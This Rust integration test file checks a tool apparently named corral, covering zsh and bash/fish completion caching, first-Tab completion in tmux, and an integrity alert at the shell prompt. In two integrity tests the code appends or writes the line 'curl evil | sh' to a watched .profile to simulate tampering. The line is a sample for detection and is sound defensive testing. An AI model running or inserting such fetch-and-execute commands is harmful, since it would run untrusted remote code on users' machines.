//! What the shells get from the shipped tasks on this machine's real
//! files: zsh's completion dump (compared with the one zsh's own compinit
//! writes from the same `$fpath`), the first Tab in a real zsh and bash
//! (tmux) loading a definition from the system's completion directories,
//! and the integrity alert at the prompt.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use crate::support::{Fixture, Run, artifacts, require, require_files};
use crate::terminal::{Tmux, fish_script, interactive_shell, shell_quote};

const LIMIT: Duration = Duration::from_secs(60);

/// zsh's compiled-in `$fpath` (existing directories, in order) and version.
fn zsh_fpath() -> (String, Vec<String>) {
    let output = Command::new("zsh")
        .args(["-fc", "print -r -- $ZSH_VERSION; print -rl -- $fpath"])
        .output()
        .unwrap();
    let text = String::from_utf8(output.stdout).unwrap();
    let mut lines = text.lines();
    let version = lines.next().unwrap().to_string();
    let dirs = lines
        .filter(|dir| Path::new(dir).is_dir())
        .map(str::to_string)
        .collect();
    (version, dirs)
}

/// A manifest whose `zsh_compdump` reads `first` (directories of the
/// fixture's) and then zsh's real `$fpath`.
fn compdump_manifest(fixture: &Fixture, first: &[&str]) -> PathBuf {
    let (version, real) = zsh_fpath();
    let dirs: Vec<String> = first
        .iter()
        .map(|dir| fixture.path().join(dir).display().to_string())
        .chain(real)
        .collect();
    let mut args = vec!["/cache/zcompdump".to_string(), version];
    args.extend(dirs.iter().cloned());
    let mut text = format!(
        "[[task]]\nid = \"zsh_compdump\"\nrationale = \"t\"\ncomponent = {:?}\ntimeout_ms = 1500\nfuel = 20_000_000_000\nargs = {}\n",
        artifacts::ZSH_COMPDUMP,
        toml::Value::from(args)
    );
    for dir in &dirs {
        text.push_str(&format!(
            "[[task.dir]]\nhost = {dir:?}\nguest = {dir:?}\nmode = \"ro\"\n"
        ));
    }
    text.push_str(
        "[[task.dir]]\nhost = \".corral/cache/zsh\"\nguest = \"/cache\"\nmode = \"rw\"\n",
    );
    fixture.manifest(&text);
    fixture.path().join(".corral/cache/zsh/zcompdump")
}

/// Everything a dump defines once zsh has sourced it, one line per fact,
/// sorted: the tables, the completion widgets, their key bindings, the
/// autoloaded functions.
fn dump_facts(dump: &Path) -> String {
    let script = r#"zmodload zsh/zle
source $1
typeset -A tab
for t in _comps _services _patcomps _postpatcomps _compautos; do
  tab=("${(@Pkv)t}")
  for k in ${(ok)tab}; do print -r -- "$t ${(q)k} ${(q)tab[$k]}"; done
done
zle -lL | grep '^zle -C' | sort
bindkey | grep ' _' | sort
print -rl -- ${(ok)functions[(I)_*]}
"#;
    let output = Command::new("zsh")
        .args(["-fc", script, "facts"])
        .arg(dump)
        .output()
        .unwrap();
    assert!(output.status.success(), "{output:?}");
    String::from_utf8(output.stdout).unwrap()
}

#[test]
fn zsh_compdump_defines_what_compinit_defines_from_the_same_fpath() {
    if !require(&["zsh"]) {
        return;
    }
    let fixture = Fixture::new();
    let ours = compdump_manifest(&fixture, &[]);
    let run = fixture.corral(&["run", "--quiet"]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);

    let theirs = fixture.path().join("compinit.dump");
    let status = Command::new("zsh")
        .args(["-fc", "autoload -Uz compinit; compinit -d \"$1\"", "zsh"])
        .arg(&theirs)
        .env("HOME", fixture.path())
        .status()
        .unwrap();
    assert!(status.success());
    let header = |path: &Path| {
        std::fs::read_to_string(path)
            .unwrap()
            .lines()
            .next()
            .unwrap()
            .to_string()
    };
    // The header compinit checks without -C: same file count and version.
    assert_eq!(header(&ours), header(&theirs));
    let facts = dump_facts(&ours);
    assert!(facts.lines().count() > 1000, "{facts}");
    assert_eq!(facts, dump_facts(&theirs));

    // An unchanged dump is not rewritten: its compiled copy stays valid.
    let modified = std::fs::metadata(&ours).unwrap().modified().unwrap();
    std::thread::sleep(Duration::from_millis(20));
    assert_eq!(fixture.corral(&["run", "--quiet"]).code, Some(0));
    assert_eq!(
        std::fs::metadata(&ours).unwrap().modified().unwrap(),
        modified
    );
}

/// The numbers in the guest log line of `run` that holds `said`, in order.
fn logged_numbers(run: &Run, said: &str) -> Vec<usize> {
    let line = run
        .stderr
        .lines()
        .find(|line| line.starts_with("LOG ") && line.contains(said))
        .unwrap_or_else(|| panic!("no log line with {said:?}:\n{}", run.stderr));
    line[line.find("message=").unwrap()..]
        .split(|c: char| !c.is_ascii_digit())
        .filter_map(|word| word.parse().ok())
        .collect()
}

#[test]
fn zsh_compdump_rereads_only_changed_files_and_writes_the_dump_a_fresh_scan_writes() {
    if !require(&["zsh"]) {
        return;
    }
    let fixture = Fixture::new();
    fixture.write("zfunc/_corral_one", "#compdef corral-one\n");
    fixture.write("zfunc/_corral_two", "#compdef corral-two\n");
    let dump = compdump_manifest(&fixture, &["zfunc"]);
    // Files changed within a second of a scan's start are read again by
    // the next one (the racy-clean rule): let these settle first.
    std::thread::sleep(Duration::from_millis(1200));
    // (files read, files in $fpath)
    let scan = || {
        let run = fixture.corral(&["run"]);
        assert_eq!(run.code, Some(0), "{}", run.stderr);
        match logged_numbers(&run, "files read;")[..] {
            [read, of, ..] => (read, of),
            _ => panic!("{}", run.stderr),
        }
    };
    let (everything, of) = scan();
    assert!(
        everything == of && of > 500,
        "the first scan reads every file: {everything} of {of}"
    );
    let scan = || scan().0;
    assert_eq!(scan(), 0, "nothing changed");

    // The same size, a new first line: only this file is read again.
    fixture.write("zfunc/_corral_two", "#compdef corral-2wo\n");
    assert_eq!(scan(), 1);
    let incremental = std::fs::read_to_string(&dump).unwrap();
    assert!(
        incremental.contains("'corral-2wo' '_corral_two'"),
        "{incremental}"
    );
    assert!(!incremental.contains("'corral-two'"), "{incremental}");

    std::fs::remove_dir_all(fixture.path().join(".corral/task-state")).unwrap();
    std::fs::remove_file(&dump).unwrap();
    assert_eq!(scan(), everything, "without state, every file is read");
    assert_eq!(std::fs::read_to_string(&dump).unwrap(), incremental);

    // A name that is not UTF-8 costs only itself, not its directory.
    let bad = std::os::unix::ffi::OsStrExt::from_bytes(b"_corral_bad\xff");
    let bad: &std::ffi::OsStr = bad;
    std::fs::write(fixture.path().join("zfunc").join(bad), "#compdef bad\n").unwrap();
    scan();
    let dump = std::fs::read_to_string(&dump).unwrap();
    assert!(dump.contains("'corral-2wo' '_corral_two'"), "{dump}");
}

#[test]
fn the_completion_index_rereads_only_changed_files_and_equals_a_fresh_scan() {
    let (bash, fish) = (
        "/usr/share/bash-completion/completions",
        "/usr/share/fish/completions",
    );
    if !require_files(
        &[Path::new(bash), Path::new(fish)],
        ".ci/run installs bash-completion and fish",
    ) {
        return;
    }
    // Copies of the real directories, so that the test can change them.
    let fixture = Fixture::new();
    for (from, to) in [(bash, "tree/bash"), (fish, "tree/fish")] {
        let to = fixture.path().join(to);
        std::fs::create_dir_all(to.parent().unwrap()).unwrap();
        let copied = Command::new("cp").arg("-a").arg(from).arg(&to).status();
        assert!(copied.unwrap().success());
    }
    fixture.manifest(&format!(
        "[[task]]\nid = \"completion_cache_scan\"\nrationale = \"t\"\ncomponent = {:?}\ntimeout_ms = 5000\nfuel = 40_000_000_000\nargs = [\"/c/bash\", \"/c/fish\", \"/cache/completions.index\"]\n[[task.dir]]\nhost = \"tree/bash\"\nguest = \"/c/bash\"\nmode = \"ro\"\n[[task.dir]]\nhost = \"tree/fish\"\nguest = \"/c/fish\"\nmode = \"ro\"\n[[task.dir]]\nhost = \".corral/cache\"\nguest = \"/cache\"\nmode = \"rw\"\n",
        artifacts::COMPLETION_CACHE_SCAN
    ));
    let index = fixture.path().join(".corral/cache/completions.index");
    std::thread::sleep(Duration::from_millis(1200));
    // "indexed D completion definitions from F files (R read, ...)"
    let scan = || {
        let run = fixture.corral(&["run"]);
        assert_eq!(run.code, Some(0), "{}", run.stderr);
        match logged_numbers(&run, "completion definitions from")[..] {
            [_, _, read, ..] => read,
            _ => panic!("{}", run.stderr),
        }
    };
    let everything = scan();
    assert!(everything > 1000, "{everything}");
    let first = std::fs::read_to_string(&index).unwrap();
    let modified = std::fs::metadata(&index).unwrap().modified().unwrap();
    assert_eq!(scan(), 0, "nothing changed");
    assert_eq!(
        std::fs::metadata(&index).unwrap().modified().unwrap(),
        modified,
        "an unchanged index is not rewritten"
    );

    // One file edited, one added, one removed: those two are read, and the
    // links to the edited one (bash-completion's scp, sftp, ... -> ssh).
    let edited = fixture.path().join("tree/bash/ssh");
    let links = std::fs::read_dir(fixture.path().join("tree/bash"))
        .unwrap()
        .filter(|entry| {
            std::fs::read_link(entry.as_ref().unwrap().path())
                .is_ok_and(|to| to == Path::new("ssh"))
        })
        .count();
    let mut text = std::fs::read_to_string(&edited).unwrap();
    text.push_str("complete -F _comp_cmd_ssh corral-ssh\n");
    std::fs::write(&edited, text).unwrap();
    fixture.write("tree/fish/corral-new.fish", "complete -c corral-new -s h\n");
    std::fs::remove_file(fixture.path().join("tree/fish/git.fish")).unwrap();
    assert_eq!(scan(), 2 + links);
    let incremental = std::fs::read_to_string(&index).unwrap();
    assert_ne!(incremental, first);
    for line in [
        "corral-ssh\tbash\t/c/bash/ssh\n",
        "corral-new\tfish\t/c/fish/corral-new.fish\n",
    ] {
        assert!(incremental.contains(line), "{line:?} missing");
    }
    assert!(!incremental.contains("/c/fish/git.fish"));

    std::fs::remove_dir_all(fixture.path().join(".corral/task-state")).unwrap();
    assert_eq!(scan(), everything);
    assert_eq!(std::fs::read_to_string(&index).unwrap(), incremental);
}

/// Starts `shell` in tmux in the fixture with `rc` as its start-up file.
fn shell_in_tmux(fixture: &Fixture, shell: &str, rc: &str) -> Tmux {
    let rc_name = if shell == "zsh" { ".zshrc" } else { "bashrc" };
    let rc_path = fixture.write(rc_name, rc);
    interactive_shell(fixture.path(), shell, &rc_path, LIMIT)
}

fn snippet(fixture: &Fixture, shell: &str) -> String {
    let snippet = fixture.corral(&["shell-init", shell, "--manifest", "manifest.toml"]);
    assert_eq!(snippet.code, Some(0), "{}", snippet.stderr);
    let path = fixture.write(&format!("corral.{shell}"), &snippet.stdout);
    shell_quote(&path.display().to_string())
}

#[test]
fn zsh_completes_on_the_first_tab_from_corrals_dump() {
    if !require(&["tmux", "zsh", "git"]) {
        return;
    }
    let fixture = Fixture::new();
    let dump = compdump_manifest(&fixture, &[]);
    assert_eq!(fixture.corral(&["run", "--quiet"]).code, Some(0));
    assert!(dump.is_file());
    let source = snippet(&fixture, "zsh");
    let tmux = shell_in_tmux(
        &fixture,
        "zsh",
        &format!("source {source}\ncorral_compinit\nPS1='READY> '\n"),
    );
    // `_git`, from Debian's zsh completion directory, completes `checko`.
    tmux.send(&["git checko", "Tab"]);
    tmux.wait_for(LIMIT, "git's subcommand completed", |screen| {
        screen.contains("READY> git checkout")
    });
    // compinit loaded corral's dump instead of scanning and writing its own.
    assert!(!fixture.path().join(".zcompdump").exists());
}

/// A manifest whose `completion_cache_scan` indexes the system's
/// bash-completion directory; returns the directory.
fn bash_index_manifest(fixture: &Fixture) -> &'static str {
    let dir = "/usr/share/bash-completion/completions";
    fixture.manifest(&format!(
        "[[task]]\nid = \"completion_cache_scan\"\nrationale = \"t\"\ncomponent = {:?}\ntimeout_ms = 1500\nfuel = 40_000_000_000\nargs = [\"/completions/bash/1\", \"/cache/completions.index\"]\n[[task.dir]]\nhost = {dir:?}\nguest = \"/completions/bash/1\"\nmode = \"ro\"\n[[task.dir]]\nhost = \".corral/cache/completions\"\nguest = \"/cache\"\nmode = \"rw\"\n",
        artifacts::COMPLETION_CACHE_SCAN
    ));
    dir
}

#[test]
fn bash_loads_a_definition_from_corrals_index_on_the_first_tab() {
    let _cpu = crate::support::cpu_bound();
    if !require(&["tmux", "bash"]) {
        return;
    }
    let fixture = Fixture::new();
    let dir = bash_index_manifest(&fixture);
    if !require_files(
        &[&Path::new(dir).join("ssh")],
        ".ci/run installs bash-completion",
    ) {
        return;
    }
    let run = fixture.corral(&["run", "--quiet"]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    let source = snippet(&fixture, "bash");
    let tmux = shell_in_tmux(
        &fixture,
        "bash",
        &format!("source {source}\nPS1='READY> '\n"),
    );
    // Start-up sourced neither bash-completion nor any definition.
    tmux.send(&[
        "complete -p | wc -l; declare -F _init_completion || echo NO-HELPERS",
        "Enter",
    ]);
    tmux.wait_for(LIMIT, "the start-up state", |screen| {
        screen.contains("\n1\nNO-HELPERS")
    });
    // ssh's definition (bash-completion's `ssh` file) completes an option.
    tmux.send(&["ssh -o Compr", "Tab"]);
    tmux.wait_for(LIMIT, "ssh's option completed", |screen| {
        screen.contains("READY> ssh -o Compression=")
    });
}

/// bash-completion's entry script, as Debian installs it.
const BASH_COMPLETION: &str = "/usr/share/bash-completion/bash_completion";

#[test]
fn bash_completion_sourced_by_bashrc_is_not_sourced_again_on_the_first_tab() {
    if !require(&["bash"]) {
        return;
    }
    let fixture = Fixture::new();
    let dir = bash_index_manifest(&fixture);
    if !require_files(
        &[&Path::new(dir).join("ssh"), Path::new(BASH_COMPLETION)],
        ".ci/run installs bash-completion",
    ) {
        return;
    }
    assert_eq!(fixture.corral(&["run", "--quiet"]).code, Some(0));
    let source = snippet(&fixture, "bash");
    // A ~/.bashrc that sources bash-completion, then corral's snippet; the
    // version it set is replaced, so sourcing it again would show.
    let rc = fixture.write(
        "bashrc",
        format!("source {BASH_COMPLETION}\nsource {source}\nBASH_COMPLETION_VERSINFO=(0 0)\n"),
    );
    // What bash does at the first Tab after `ssh `: call the default loader.
    let first_tab = "f=$(complete -p -D); f=${f#complete -F }; f=${f%% *}; \
        $f ssh '' ssh; complete -p ssh >/dev/null || exit 3; \
        echo \"helpers ${BASH_COMPLETION_VERSINFO[*]}\"";
    let output = Command::new("bash")
        .arg("--rcfile")
        .arg(&rc)
        .args(["-i", "-c", first_tab])
        .current_dir(fixture.path())
        .env("HOME", fixture.path())
        .env("TERM", "dumb")
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(output.status.success(), "{output:?}");
    assert!(stdout.contains("helpers 0 0"), "sourced again: {stdout}");
}

/// A manifest whose `integrity_scan` watches one start-up file; returns it.
fn integrity_manifest(fixture: &Fixture) -> PathBuf {
    let watched = fixture.write("watched/.profile", "export A=1\n");
    fixture.manifest(&format!(
        "[[task]]\nid = \"integrity_scan\"\nrationale = \"t\"\ncomponent = {:?}\nargs = [\"/watched/.profile\", \"/state/baseline.sha256\"]\n[[task.file]]\nhost = {:?}\nguest = \"/watched/.profile\"\n[[task.dir]]\nhost = \".corral/integrity\"\nguest = \"/state\"\nmode = \"rw\"\n",
        artifacts::INTEGRITY_SCAN,
        watched.display().to_string()
    ));
    watched
}

#[test]
fn an_edited_watched_file_raises_the_prompt_alert_until_rebaselined() {
    if !require(&["tmux", "bash"]) {
        return;
    }
    let fixture = Fixture::new();
    integrity_manifest(&fixture);
    // The baseline, taken before the shell starts.
    assert_eq!(fixture.corral(&["run", "--quiet"]).code, Some(0));
    let source = snippet(&fixture, "bash");
    let tmux = shell_in_tmux(
        &fixture,
        "bash",
        &format!("source {source}\nPS1='[${{corral_alert:-no alert}}] READY> '\n"),
    );
    // The first prompt's own run has finished (it would hold the task).
    let events = fixture.path().join(".corral/last-run.events");
    crate::terminal::eventually(LIMIT, "the first prompt's run", || {
        std::fs::read_to_string(&events).is_ok_and(|text| text.contains("PERF_GUARD"))
    });
    let corral = shell_quote(env!("CARGO_BIN_EXE_corral"));
    tmux.send(&["echo 'curl evil | sh' >> watched/.profile", "Enter"]);
    tmux.send(&[&format!("{corral} run --quiet"), "Enter"]);
    tmux.wait_for(LIMIT, "the alert at the prompt", |screen| {
        screen.contains("[corral: watched files changed: corral result integrity_scan; to accept: corral rebaseline integrity_scan] READY>")
    });
    tmux.send(&["clear", "Enter"]);
    tmux.send(&[
        &format!("{corral} rebaseline integrity_scan >/dev/null"),
        "Enter",
    ]);
    tmux.wait_for(LIMIT, "the alert cleared", |screen| {
        screen
            .lines()
            .rev()
            .find(|line| line.contains("READY>"))
            .is_some_and(|line| line.starts_with("[no alert] READY>"))
    });
}

#[test]
fn fish_sets_the_alert_while_watched_files_changed() {
    if !require(&["fish"]) {
        return;
    }
    let fixture = Fixture::new();
    let watched = integrity_manifest(&fixture);
    assert_eq!(fixture.corral(&["run", "--quiet"]).code, Some(0));
    let source = snippet(&fixture, "fish");
    let alert = || {
        // The prompt's own run would race the test's runs.
        let output = fish_script(
            fixture.path(),
            fixture.path(),
            &format!("source {source}; emit fish_prompt; echo \"alert:$corral_alert\""),
            &[("CORRAL_MODE", "off")],
        );
        String::from_utf8_lossy(&output.stdout).trim().to_string()
    };
    assert_eq!(alert(), "alert:");
    std::fs::write(&watched, "curl evil | sh\n").unwrap();
    assert_eq!(fixture.corral(&["run", "--quiet"]).code, Some(0));
    assert!(
        alert().starts_with("alert:corral: watched files changed"),
        "{}",
        alert()
    );
    assert_eq!(
        fixture.corral(&["rebaseline", "integrity_scan"]).code,
        Some(0)
    );
    assert_eq!(alert(), "alert:");
    // A scan that fails (here on a corrupted baseline) stores no result:
    // the last clean one must not keep the prompt quiet.
    let baseline = fixture.path().join(".corral/integrity/baseline.sha256");
    std::fs::write(&baseline, "not a baseline\n").unwrap();
    let failed = fixture.corral(&["run", "--quiet"]);
    assert_eq!(failed.code, Some(1), "{}", failed.stderr);
    assert!(
        alert().starts_with("alert:corral: integrity_scan is failing"),
        "{}",
        alert()
    );
}
